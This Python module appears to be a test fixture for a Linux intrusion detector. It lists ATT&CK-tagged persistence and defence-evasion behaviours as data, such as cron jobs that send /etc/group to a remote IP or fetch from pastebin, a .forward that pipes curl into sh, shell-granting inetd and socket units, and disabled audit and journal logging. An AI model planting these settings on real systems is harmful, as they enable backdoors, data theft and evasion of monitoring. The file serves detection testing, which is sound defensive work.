"""Settings that were bent: jobs, units, hooks and configuration of services (ATT&CK T1053, T1543, T1546, T1562)."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour


def setting(
    name: str,
    techniques: tuple[str, ...],
    does: str,
    path: str,
    text: str,
    *raises: str,
    mark: str = "",
    mode: int = 0o644,
) -> Behaviour:
    """A file of settings that a behaviour consists of; its findings carry its path unless there is another mark."""
    return Behaviour(name, techniques, does, (mark or path,), raises, files={path: text}, modes={path: mode})


def job(name: str, techniques: tuple[str, ...], does: str, lines: str, *raises: str) -> Behaviour:
    """A file of cron.d."""
    return setting(f"cron_{name}", ("T1053.003", *techniques), does, f"/etc/cron.d/job-{name}", lines, *raises)


def unit(name: str, techniques: tuple[str, ...], does: str, file: str, text: str, *raises: str) -> Behaviour:
    """A unit of systemd."""
    return setting(f"systemd_{name}", ("T1543.002", *techniques), does, f"/etc/systemd/system/{file}", text, *raises)


BEHAVIOURS = (
    job("asks_text_storage", ("T1102.001",), "A job asks a site that keeps texts for orders.",
        "* * * * * root curl -s https://pastebin.com/raw/abc -o /var/lib/orders\n", "cron_job_asks_text_storage_site"),
    job("conceals_its_command", ("T1564", "T1027"), "A job's line begins anew on the terminal, so that another one is shown.",
        "* * * * * root /usr/local/lib/x;#\rno crontab for root\n", "cron_job_conceals_command"),
    job("kills_rivals", ("T1668",), "A job kills other people's miners.", "* * * * * root pkill -9 kinsing\n", "cron_job_kills_rivals"),
    job("preloads_library", ("T1574.006",), "A job's environment forces a library on what it starts.",
        "LD_PRELOAD=/usr/local/lib/libcr.so\n* * * * * root /usr/bin/true\n", "cron_job_preloads_library"),
    job("restores_key", ("T1098.004",), "A job writes a key of root again whenever it was removed.",
        "* * * * * root echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys\n", "cron_job_restores_access"),
    job("looks_in_tmp_first", ("T1574.007",), "A job looks for its programs in /tmp first.",
        "PATH=/tmp:/usr/bin\n* * * * * root backup\n", "cron_job_searches_writable_directory_first"),
    job("sends_files_away", ("T1020", "T1048.003"), "A job sends the list of accounts to a distant machine.",
        "@daily root curl -s -F f=@/etc/group http://203.0.113.131/up\n", "cron_job_sends_files_away"),
    job("writes_itself_again", (), "A job puts itself back.", "* * * * * root echo '* * * * * /usr/lib/x' | crontab -\n", "cron_job_writes_itself_again"),
    unit("hands_connections_a_shell", ("T1059.004",), "Each connection to a port gets a shell.", "remote@.service",
         "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n", "systemd_unit_connection_gets_shell", "systemd_unit_fetch_and_run"),
    unit("imitates_part_of_itself", ("T1036.004",), "A service named like a part of systemd starts a program in /var.", "systemd-timesyncd2.service",
         "[Service]\nExecStart=/var/lib/timesync/run\n", "systemd_unit_imitates_system_service"),
    unit("watches_accounts", ("T1546",), "A unit acts whenever the password hashes change.", "watch.path",
         "[Path]\nPathChanged=/etc/shadow\nUnit=watch.service\n", "systemd_unit_path_watches_secrets"),
    unit("preloads_library", ("T1574.006",), "A service forces a library on what it starts.", "audio.service",
         "[Service]\nEnvironment=LD_PRELOAD=/usr/local/lib/libsnd.so\nExecStart=/usr/bin/true\n", "systemd_unit_preloads_library"),
    Behaviour(
        name="systemd_masks_audit_daemon", techniques=("T1562.001", "T1562.012"), does="The audit daemon is kept from starting.",
        marks=("/etc/systemd/system/auditd.service",), raises=("systemd_unit_masks_defence",),
        shell="ln -s /dev/null /etc/systemd/system/auditd.service",
    ),
    Behaviour(
        name="systemd_unit_of_web_server_account", techniques=("T1543.002",), does="The account of the web server has a unit of its own.",
        marks=("/var/www/.config/systemd/user/sync.service",), raises=("systemd_unit_of_service_account",),
        files={"/var/www/.config/systemd/user/sync.service": "[Service]\nExecStart=/usr/bin/true\n"}, shell="chown -R 33:33 /var/www/.config",
    ),
    setting("systemd_transient_unit_runs_one_liner", ("T1543.002", "T1569.003"), "A unit made on the fly runs code of one line.",
            "/run/systemd/transient/run-u42.service", "[Service]\nExecStart=/usr/bin/python3 -c 'import time; time.sleep(9)'\n", "systemd_unit_transient_command"),
    setting("motd_makes_shell_suid", ("T1546", "T1548.001"), "A script of the message of the day gives a shell the SUID bit.",
            "/etc/update-motd.d/70-disk", "#!/bin/sh\nchmod 4755 /var/lib/misc/sh\n", "autostart_changes_accounts_or_bits", mode=0o755),
    setting("inetd_hands_out_shell", ("T1543", "T1059.004"), "inetd gives each connection a shell.",
            "/etc/inetd.conf", "ingreslock stream tcp nowait root /bin/sh sh -i\n", "autostart_inetd_runs_shell"),
    setting("log_daemon_starts_program", ("T1546", "T1059.004"), "The log daemon starts a program when a certain line comes.",
            "/etc/rsyslog.d/90-x.conf", "module(load=\"omprog\")\n:msg, contains, \"wake\" action(type=\"omprog\" binary=\"/var/lib/misc/.wake\")\n", "autostart_logging_runs_program", "autostart_runs_hidden_program"),
    setting("forwarded_mail_runs_shell", ("T1546", "T1059.004"), "Mail to root runs a command.",
            "/root/.forward", "\"|/bin/sh -c 'curl -s http://203.0.113.132/m | sh'\"\n", "autostart_mail_runs_one_liner", "autostart_command_fetches_or_decodes_code"),
    setting("apt_uses_other_dpkg", ("T1546.016", "T1574"), "apt starts another program in dpkg's place.",
            "/etc/apt/apt.conf.d/95bin", "Dir::Bin::dpkg \"/var/lib/misc/dpkg\";\n", "autostart_package_manager_uses_other_program"),
    setting("sshd_asks_program_in_tmp_for_keys", ("T1098.004", "T1556"), "sshd asks a program in /var/tmp whose key is good.",
            "/etc/ssh/sshd_config.d/50-keys.conf", "AuthorizedKeysCommand /var/tmp/keys %u\nAuthorizedKeysCommandUser root\n",
            "autostart_sshd_command_in_user_place", "autostart_runs_from_temporary_directory"),
    setting("sshd_subsystem_is_a_shell", ("T1098.004", "T1059.004"), "A subsystem of sshd is a shell.",
            "/etc/ssh/sshd_config.d/51-sub.conf", "Subsystem stats /bin/bash\n", "autostart_sshd_subsystem_runs_shell"),
    setting("virus_scanner_leaves_out_tmp", ("T1562.001", "T1564.012"), "The virus scanner leaves out /tmp.",
            "/etc/clamav/clamd.conf", "ExcludePath ^/tmp/\n", "file_antivirus_looks_away"),
    setting("audit_leaves_out_root", ("T1562.006", "T1562.012"), "The audit system leaves out what root does.",
            "/etc/audit/rules.d/10-x.rules", "-a never,exit -F uid=0\n", "file_audit_rules_look_away"),
    setting("pod_of_node_takes_host", ("T1611", "T1610"), "A pod that the node starts by itself has the host's root directory.",
            "/etc/kubernetes/manifests/dns.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  volumes:\n  - name: r\n    hostPath:\n      path: /\n", "file_cluster_pod_takes_host"),
    setting("encryption_loads_library", ("T1574.006", "T1546"), "The settings of OpenSSL load a library from /var.",
            "/etc/ssl/openssl.cnf", "[x]\ndynamic_path = /var/lib/misc/engine.so\n", "file_crypto_settings_load_library", mark="openssl.cnf"),
    setting("journal_keeps_nothing", ("T1562.006", "T1070.002"), "The journal keeps nothing.",
            "/etc/systemd/journald.conf.d/10-x.conf", "[Journal]\nStorage=none\n", "file_journal_keeps_nothing"),
    setting("core_dumps_start_program_at_boot", ("T1546", "T1611"), "A kernel setting starts a program whenever one crashes.",
            "/etc/sysctl.d/99-x.conf", "kernel.core_pattern=|/var/lib/misc/core %p\n", "file_kernel_setting_starts_program"),
    setting("sshd_takes_keys_from_usr", ("T1098.004", "T1556"), "sshd takes keys from a file below /usr.",
            "/etc/ssh/sshd_config.d/52-file.conf", "AuthorizedKeysFile .ssh/authorized_keys /usr/lib/locale/keys\n", "file_keys_read_from_odd_place"),
    setting("mail_transport_runs_shell", ("T1505.002", "T1546"), "A transport of Postfix is a shell.",
            "/etc/postfix/master.cf", "x unix - n n - - pipe\n  flags=R user=nobody argv=/bin/sh -c id\n", "file_mail_transport_runs_odd_program"),
    setting("sudo_loads_plugin_from_var", ("T1548.003", "T1574"), "sudo loads a plug-in from /var.",
            "/etc/sudo.conf", "Plugin sudoers_policy /var/lib/misc/sudoers.so\n", "file_sudo_loads_plugin"),
    setting("log_daemon_discards_sign_ins", ("T1562.006",), "The log daemon throws away what sshd says.",
            "/etc/rsyslog.d/00-x.conf", ":programname, isequal, \"sshd\" stop\n", "file_syslog_discards_logins"),
    setting("every_host_trusted", ("T1098", "T1078"), "Everybody may sign in as root from everywhere without a password.",
            "/root/.rhosts", "+ +\n", "file_trusts_every_host"),
    setting("web_server_loads_module_from_var", ("T1505", "T1574"), "The web server loads a module from /var.",
            "/etc/nginx/modules-enabled/50-x.conf", "load_module /var/lib/misc/x.so;\n", "file_web_server_loads_odd_module"),
    setting("first_page_defaced", ("T1491.002",), "The first page of a site says who broke in.",
            "/var/www/html/index.html", "<html><title>Hacked by somebody</title></html>\n", "file_web_page_defaced"),
    setting("kernel_module_waits_in_root", ("T1547.006", "T1014"), "A kernel module lies in root's home.",
            "/root/net.ko", "\x7fELF\n", "file_kernel_module_outside"),
    setting("tickets_copied", ("T1558.005", "T1074.001"), "A copy of somebody's tickets lies in /tmp.",
            "/tmp/krb5.ccache", "\x05\x04\n", "file_kerberos_ticket_copied", mode=0o600),
    setting("program_put_before_the_systems", ("T1574.007", "T1036.005"), "A program named ps lies where shells look first.",
            "/usr/local/bin/ps", "#!/bin/sh\nexec /usr/bin/ps \"$@\"\n", "file_shadows_system_program", mode=0o755),
    Behaviour(
        name="name_of_file_turns_around", techniques=("T1036.002",), does="The name of a program reads backwards from its middle on.",
        marks=("\u202e",), raises=("file_name_turns_around",), files={"/root/report\u202efdp.sh": "x\n"},
    ),
    Behaviour(
        name="archive_staged_in_hidden_directory", techniques=("T1074.001", "T1560.001"), does="An archive waits in a hidden directory of /tmp.",
        marks=("/tmp/.cache-x/all.tgz",), raises=("file_archive_staged",),
        shell="mkdir /tmp/.cache-x; head -c 200000 /dev/zero > /tmp/.cache-x/all.tgz",
    ),
    Behaviour(
        name="sgid_program_in_home", techniques=("T1548.001",), does="A program in a home runs as the group of the password hashes.",
        marks=("/home/wim/grp",), raises=("file_sgid_unusual_directory",),
        shell="mkdir -p /home/wim; cp /bin/true /home/wim/grp; chgrp shadow /home/wim/grp; chmod 2755 /home/wim/grp",
    ),
    Behaviour(
        name="suid_program_of_user", techniques=("T1548.001",), does="A program in /srv runs as an ordinary user whoever starts it.",
        marks=("/srv/asuser",), raises=("file_suid_of_user",), shell="cp /bin/true /srv/asuser; chown 1000 /srv/asuser; chmod 4755 /srv/asuser",
    ),
    Behaviour(
        name="database_library_planted", techniques=("T1505.001", "T1190"), does="The database wrote a library into its own directory.",
        marks=("/var/lib/mysql/udf.so",), raises=("file_database_library_planted",),
        shell="mkdir -p /var/lib/mysql; cp /bin/true /var/lib/mysql/udf.so; chown 1000 /var/lib/mysql/udf.so",
    ),
    Behaviour(
        name="directory_of_programs_open_for_everybody", techniques=("T1574.007", "T1222.002"), does="Everybody may lay programs where shells look for them.",
        marks=("/usr/local/sbin",), raises=("directory_program_path_writable",), shell="chmod 777 /usr/local/sbin",
    ),
)  # fmt: skip
